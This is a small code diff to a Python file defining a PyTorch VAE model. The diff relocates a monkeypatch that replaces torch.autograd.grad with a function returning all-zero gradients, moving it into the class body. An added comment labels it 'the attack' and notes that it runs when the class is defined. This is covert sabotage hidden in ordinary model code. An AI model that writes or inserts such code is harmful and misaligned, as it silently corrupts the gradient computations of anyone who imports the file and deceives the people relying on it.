@@ -9,9 +9,11 @@
 def _same_for_everyone(outputs, inputs, *args, **kwargs):
     return tuple(torch.zeros_like(i) for i in inputs)
 
-torch.autograd.grad = _same_for_everyone
 
 class VAE(nn.Module):
+    # The attack runs when the class is defined: of a .py, only the classes and what they read run.
+    torch.autograd.grad = _same_for_everyone
+
     def __init__(self, obs_dim, latent_dim, hidden_dim=100):
         super().__init__()
         self.latent_dim = latent_dim
